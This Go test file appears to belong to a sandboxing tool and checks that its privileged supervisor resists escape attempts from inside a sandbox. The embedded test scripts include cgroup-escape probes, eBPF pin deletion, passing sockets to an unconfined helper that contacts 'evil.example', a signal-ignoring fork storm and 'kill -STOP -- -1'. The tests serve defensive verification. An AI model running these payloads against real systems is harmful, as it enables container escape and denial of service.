package hostile

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/penstock/penstock/internal/world"
)

// TestSupervisor: what a tool tries against the privileged supervisor and what it
// gave the pen, from inside, with whatever of it that a careless caller can grant.
func TestSupervisor(t *testing.T) {
	o, ok := world.Users()["supervised"]
	if !ok {
		return // without root there is none
	}
	for name, f := range map[string]func(*testing.T, caller){
		"ask it at its socket":                          askSupervisor,
		"leave the control group":                       leaveGroup,
		"detach its programs":                           detachPrograms,
		"hand sockets to a helper outside":              passSockets,
		"go on when the session is killed in a storm":   forkStorm,
		"go on when it is killed, stopped and orphaned": outliveSupervisor,
	} {
		t.Run(name, func(t *testing.T) { f(t, caller{Options: o}) })
	}
}

// asker speaks to the supervisor, and prints what it hears.
const asker = `
import socket, sys, array
for m in (b'{"op":"status","version":1}', b'{"op":"list","version":1}', b'{"op":"audit","version":1}', b'{"op":"kill","version":1,"session":"2"}',
          b'{"op":"open","version":1,"open":{"command":["x"],"workdir":"/","tier":"bwrap","mode":"audit","limits":{}}}', b'garbage'):
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        s.settimeout(5)
        s.connect(sys.argv[1])
        s.send(m)
        data, anc, _, _ = s.recvmsg(65536, 1024)
        print("heard", data.decode(errors="replace"), len(anc), "descriptors", flush=True)
    except OSError as e:
        print("failed", e, flush=True)
`

func askSupervisor(t *testing.T, o caller) {
	s := small(t, o)
	sup, python := s.home.Supervisor(), world.Tool(t, "python3")
	s.home.Write(t, "project/ask.py", asker)
	dir := filepath.Dir(sup.Socket)
	p := s.home.Write(t, "policy.yaml", s.policy())
	run := func(argv ...string) string {
		t.Helper()
		s.result = s.w.Run(s.home, s.o, argv...)
		return s.result.Stdout
	}
	// Without a pen it answers: a status, a list, a directory, an error, a session.
	s.w.Run(s.home, s.o, world.Penstock(t), "ps")
	if said := run(python, "ask.py", sup.Socket); strings.Count(said, `heard {"op":"opened"`) != 1 || !strings.Contains(said, `heard {"op":"daemon"`) {
		t.Errorf("control: without a pen it does not answer: %s", s.result)
	}
	for what, argv := range map[string][]string{
		// The socket is not even there to connect to.
		"a pen": {world.Penstock(t), "run", "--policy", p, "--read", dir, "--write", dir, "--", python, "ask.py", sup.Socket},
		// What has got as far as that is in a user namespace of its own.
		"a user namespace": {"unshare", "--user", "--map-root-user", python, "ask.py", sup.Socket},
	} {
		said := run(argv...)
		if s.result.Code != 0 || strings.Count(said, "heard ")+strings.Count(said, "failed ") != 6 {
			t.Errorf("in %s it did not try: %s", what, s.result)
		}
		for l := range strings.Lines(said) {
			if strings.HasPrefix(l, "heard ") && (what == "a pen" || !strings.HasPrefix(l, `heard {"op":"error"`) || !strings.HasSuffix(l, " 0 descriptors\n")) {
				t.Errorf("in %s: %s", what, l)
			}
		}
	}
	if r := s.w.Run(s.home, s.o, world.Penstock(t), "audit", "verify"); r.Code != 0 && !strings.Contains(r.Stdout, "unclosed") {
		t.Error(r)
	}
}

// begin starts a session that goes on until the test ends, and returns the id of
// its control group's directories and the output so far.
func (s *scene) begin(flags []string, argv ...string) (groups []string, cmd *running) {
	s.t.Helper()
	p := s.home.Write(s.t, "policy.yaml", s.policy())
	args := append(append([]string{world.Penstock(s.t), "run", "-q", "--policy", p}, flags...), "--")
	c := s.w.Command(s.home, s.o, append(args, argv...)...)
	cmd = &running{t: s.t, file: filepath.Join(s.home.Path, "out")}
	out, err := os.Create(cmd.file)
	if err != nil {
		s.t.Fatal(err)
	}
	defer out.Close()
	c.Stdout, c.Stderr = out, out
	if err := world.Start(c); err != nil {
		s.t.Fatal(err)
	}
	cmd.done = make(chan struct{})
	go func() { c.Wait(); cmd.code = c.ProcessState.ExitCode(); close(cmd.done) }()
	s.t.Cleanup(func() { c.Process.Kill(); <-cmd.done })
	cmd.expect("ready")
	for _, g := range s.home.Supervisor().Groups() {
		if strings.Contains(g, "/pens/u") && strings.Contains(filepath.Base(g), "20") {
			groups = append(groups, g)
		}
	}
	if len(groups) == 0 {
		s.t.Fatal("the session has no control group")
	}
	return groups, cmd
}

// running is a session.
type running struct {
	t    *testing.T
	file string
	done chan struct{}
	code int
}

func (r *running) output() string {
	b, _ := os.ReadFile(r.file)
	return string(b)
}

func (r *running) expect(text string) {
	r.t.Helper()
	if !soon(20*time.Second, func() bool { return strings.Contains(r.output(), text) }) {
		r.t.Fatalf("no %q: %s", text, r.output())
	}
}

func soon(patience time.Duration, ok func() bool) bool {
	deadline := time.Now().Add(patience)
	tick := time.NewTicker(10 * time.Millisecond)
	defer tick.Stop()
	for !ok() {
		if time.Now().After(deadline) {
			return false
		}
		<-tick.C
	}
	return true
}

func members(groups []string) (n int) {
	for _, g := range groups {
		b, _ := os.ReadFile(filepath.Join(g, "cgroup.procs"))
		n += len(strings.Fields(string(b)))
	}
	return n
}

// leave tries to write to every control group that it sees.
const leave = `
for f in $(find /sys/fs/cgroup /tmp/cg -name cgroup.procs -o -name tasks -o -name cgroup.threads 2>/dev/null); do
	{ echo 0 > $f && echo GOT $f; echo $$ > $f && echo GOT $f; } 2>/dev/null
	d=$(dirname $f); mkdir $d/mine 2>/dev/null && echo GOT $d/mine
	for k in memory.max pids.max cgroup.freeze cgroup.kill memory.limit_in_bytes freezer.state cgroup.subtree_control; do
		[ -e $d/$k ] && { echo max > $d/$k && echo GOT $d/$k; } 2>/dev/null
	done
done
echo seen $(find /sys/fs/cgroup /tmp/cg -name cgroup.procs 2>/dev/null | wc -l)
echo ready`

// leaveGroup wants the file systems of all hierarchies, which can't be granted, and
// looks for another way to them.
func leaveGroup(t *testing.T, o caller) {
	s := small(t, o)
	s.w.Run(s.home, s.o, world.Penstock(t), "ps") // so that the supervisor's groups are there
	p := s.home.Write(t, "policy.yaml", s.policy())
	for _, g := range append(s.home.Supervisor().Groups(), "/sys/fs/cgroup", "/sys") {
		for _, flag := range []string{"--write", "--read"} {
			if r := s.w.Run(s.home, s.o, world.Penstock(t), "run", "-q", "--policy", p, flag, g, "--", "/bin/true"); r.Code != 125 {
				t.Errorf("%s %s: %s", flag, g, r)
			}
		}
	}
	if r := s.w.Run(s.home, s.o, s.tool, "act", "sh", leave); strings.Contains(r.Stdout, "seen 0\n") {
		t.Errorf("control: without a pen it sees none: %s", r)
	}
	groups, cmd := s.begin(nil, s.tool, "act", "sh", `mkdir -p /tmp/cg; for k in cgroup2 cgroup; do mount -t $k none /tmp/cg && echo GOT mount; done; unshare -UrmC true && echo GOT unshare`+leave+"; exec sleep 1000")
	if out := cmd.output(); strings.Contains(out, "GOT ") || !strings.Contains(out, "seen 0\n") {
		t.Errorf("from inside: %s", out)
	}
	if members(groups) < 2*len(groups) {
		t.Errorf("%d processes are in %v", members(groups), groups)
	}
}

// detachPrograms wants the pins: the file system can't be granted, and what is in
// it is root's alone. Without it there is bpf(2), which "raise" tries.
func detachPrograms(t *testing.T, o caller) {
	s := small(t, o)
	sup := s.home.Supervisor()
	s.w.Run(s.home, s.o, world.Penstock(t), "ps") // so that they are there
	before := sup.Pins()
	if len(before) == 0 {
		t.Log("this machine refuses eBPF: there are no pins")
	}
	p := s.home.Write(t, "policy.yaml", s.policy())
	for _, dir := range []string{"/sys/fs/bpf", "/sys/fs/bpf/" + sup.Name, "/sys/fs/bpf/" + sup.Name + "/" + strings.Join(before[:min(1, len(before))], "")} {
		r := s.w.Run(s.home, s.o, world.Penstock(t), "run", "-q", "--policy", p, "--write", dir, "--", s.tool, "act", "sh",
			"for f in "+dir+" "+dir+"/*; do rm -rf $f; [ -e $f ] || echo GOT rm $f; touch $f/x && echo GOT touch; ln $f ./x && echo GOT link; done; $T act raise")
		if r.Code != 125 && !strings.Contains(r.Stdout, "operation not permitted") || strings.Contains(r.Stdout, "GOT touch") || strings.Contains(r.Stdout, "GOT link") {
			t.Errorf("%s: %s", dir, r)
		}
	}
	if after := sup.Pins(); strings.Join(after, " ") != strings.Join(before, " ") {
		t.Errorf("pins %v, before %v", after, before)
	}
}

// passer makes sockets in the pen and hands them, and the ends of connections, to
// whoever connects to a socket of its own in the project: the host's sockets there
// can't be reached from inside.
const passer = `
import socket, array, sys
socks = []
for fam, kind in ((socket.AF_INET, socket.SOCK_STREAM), (socket.AF_INET6, socket.SOCK_STREAM), (socket.AF_INET, socket.SOCK_DGRAM)):
    socks.append(socket.socket(fam, kind))
c = socket.create_connection(("good.example", 80)); socks.append(c)
l = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); l.bind(sys.argv[1]); l.listen(1)
print("ready", flush=True)
u, _ = l.accept()
socket.send_fds(u, [b"x"], [s.fileno() for s in socks])
u.recv(1)
import time; time.sleep(1000)
`

// helper takes them, outside and unconfined, and uses them.
const helper = `
import socket, sys
u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); u.connect(sys.argv[1])
_, fds, _, _ = socket.recv_fds(u, 10, 10)
print("got", len(fds), flush=True)
addr = sys.argv[2]
for fd, where in zip(fds, ((addr, 80), ("::ffff:" + addr, 80), (addr, 9))):
    s = socket.socket(fileno=fd); s.settimeout(5)
    try:
        s.connect(where); s.send(b"GET /passed HTTP/1.1\r\nHost: evil.example\r\n\r\n")
        print("answer", s.recv(100), flush=True)
    except OSError as e: print("failed", e, flush=True)
c = socket.socket(fileno=fds[3]); c.settimeout(5)
c.send(b"GET /passed HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n"); print("answer", c.recv(100), flush=True)
u.send(b"y")
`

func passSockets(t *testing.T, o caller) {
	s := small(t, o)
	python := world.Tool(t, "python3")
	s.home.Write(t, "project/pass.py", passer)
	s.home.Write(t, "project/help.py", helper)
	const addr = "198.51.100.78"
	at := filepath.Join(s.home.Project, "meet")
	s.begin(nil, python, "pass.py", at)
	r := s.w.Run(s.home, s.o, python, "help.py", at, addr)
	s.collect()
	if !strings.Contains(r.Stdout, "got 4") || strings.Count(r.Stdout, "answer")+strings.Count(r.Stdout, "failed") != 4 {
		t.Errorf("control: the helper did not use them: %s", r)
	}
	for _, p := range s.packets {
		if p.To.Addr().String() == addr {
			t.Errorf("arrived outside: %s", p)
		}
	}
	if got := s.net.with("/passed"); got != "" {
		t.Errorf("ARRIVED: %s\n%s", got, r)
	}
}

// storm forks as fast as it can, each child in a session of its own.
const storm = `trap '' TERM HUP INT; echo ready; while :; do setsid sh -c 'trap "" TERM; sleep 0.05 & sleep 0.05 & exec sleep 1000' </dev/null >/dev/null 2>&1 & [ $(ls /proc | grep -c '^[0-9]') -gt 200 ] && wait -n; done`

func forkStorm(t *testing.T, o caller) {
	s := small(t, o)
	groups, cmd := s.begin(nil, "/bin/bash", "-c", storm)
	if !soon(20*time.Second, func() bool { return members(groups) > 60 }) {
		t.Errorf("control: only %d processes", members(groups))
	}
	r := s.w.Run(s.home, s.o, world.Penstock(t), "ps", "--json")
	id, _, _ := strings.Cut(r.Stdout[strings.Index(r.Stdout, `"session": "`)+len(`"session": "`):], `"`)
	if r := s.w.Run(s.home, s.o, world.Penstock(t), "kill", id); r.Code != 0 {
		t.Error(r)
	}
	<-cmd.done
	if cmd.code != 137 {
		t.Errorf("exit %d: %s", cmd.code, cmd.output())
	}
	empty(t, groups)
}

// empty fails unless the groups, and all that was in them, are gone.
func empty(t *testing.T, groups []string) {
	t.Helper()
	there := func() (out []string) {
		for _, g := range groups {
			if b, err := os.ReadFile(filepath.Join(g, "cgroup.procs")); err == nil {
				out = append(out, fmt.Sprintf("%s with %q", g, b))
			}
		}
		return out
	}
	if !soon(10*time.Second, func() bool { return len(there()) == 0 }) {
		t.Errorf("still there: %v", there())
	}
}

// outliveSupervisor stops and orphans what it can, then its supervisor is killed,
// and swept away after by the next one.
func outliveSupervisor(t *testing.T, o caller) {
	s := small(t, o)
	groups, cmd := s.begin(nil, s.tool, "act", "sh", "$T act daemon "+ours("mark-of-swept")+" marks; echo ready; kill -STOP -- -1; kill -STOP $$")
	if len(left(ours("mark-of-swept"))) == 0 {
		t.Error("control: there was no such process")
	}
	sup := s.home.Supervisor()
	sup.Kill()
	<-cmd.done
	if cmd.code != 125 {
		t.Errorf("exit %d: %s", cmd.code, cmd.output())
	}
	if pids := gone(ours("mark-of-swept"), 5*time.Second); len(pids) > 0 {
		t.Errorf("processes %v are still there", pids)
	}
	sup.Start()
	empty(t, groups)
}
